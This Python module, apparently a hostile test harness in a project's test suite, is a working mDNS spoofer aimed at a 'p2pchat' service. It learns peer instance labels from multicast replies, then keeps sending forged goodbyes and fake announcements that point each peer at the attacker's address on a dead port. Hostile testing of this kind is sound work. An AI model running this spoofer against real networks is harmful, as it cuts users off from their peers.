"""A machine that says goodbye for others: `python -m tests.hostile.goodbyes ADDRESS`.

Decides: which forged mDNS packets are sent: for every p2pchat service heard, goodbyes, and
announcements of the same label that lead here. Does not know: what comes of it. Runs until
ended; prints each label once it is forged.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from typing import Final

GROUP: Final = ("224.0.0.251", 5353)
SERVICE: Final = (b"_p2pchat", b"_tcp", b"local")
PTR, TXT, SRV, A = 12, 16, 33, 1


def name(*labels: bytes) -> bytes:
    """A domain name, uncompressed."""
    return b"".join(bytes((len(label),)) + label for label in labels) + b"\0"


def record(owner: bytes, kind: int, ttl: int, data: bytes, *, flush: bool = True) -> bytes:
    """One resource record (RFC 1035 section 4.1.3; cache flush: RFC 6762 section 10.2)."""
    return owner + struct.pack(">HHIH", kind, 0x8001 if flush else 1, ttl, len(data)) + data


def packet(*records: bytes) -> bytes:
    """An authoritative answer nobody asked for."""
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def forged(label: bytes, here: str, *, ttl: int) -> bytes:
    """`ttl` 0: goodbye; else `label` lives at our address, on a port where nobody listens."""
    instance, host = name(label, *SERVICE), name(label, b"local")
    return packet(
        record(name(*SERVICE), PTR, ttl, instance, flush=False),
        record(instance, SRV, ttl, struct.pack(">HHH", 0, 0, 26799) + host),
        record(instance, TXT, ttl, b"\x03v=1"),
        record(host, A, ttl, socket.inet_aton(here)),
    )


def labels_in(data: bytes) -> set[bytes]:
    """Instance labels (32 hex digits) in a packet, whatever else it holds."""
    found = set()
    for at in range(len(data) - 33):
        if data[at] == 32 and all(c in b"0123456789abcdef" for c in data[at + 1 : at + 33]):
            found.add(data[at + 1 : at + 33])
    return found


def main(here: str) -> None:
    """Listen, forge, repeat."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(here))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.bind(("", GROUP[1]))
    member = socket.inet_aton(GROUP[0]) + socket.inet_aton(here)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, member)
    sock.settimeout(0.05)
    known: set[bytes] = set()
    question = struct.pack(">HHHHHH", 0, 0, 1, 0, 0, 0) + name(*SERVICE) + struct.pack(">HH", PTR, 1)
    asked = 0.0
    while True:
        if time.monotonic() - asked > 1:
            sock.sendto(question, GROUP)
            asked = time.monotonic()
        try:
            for label in labels_in(sock.recv(9000)) - known:
                known.add(label)
                print(label.decode(), flush=True)
        except TimeoutError:
            pass  # nothing new: forge what is known
        for label in known:
            sock.sendto(forged(label, here, ttl=0), GROUP)
            sock.sendto(forged(label, here, ttl=120), GROUP)


if __name__ == "__main__":
    main(sys.argv[1])
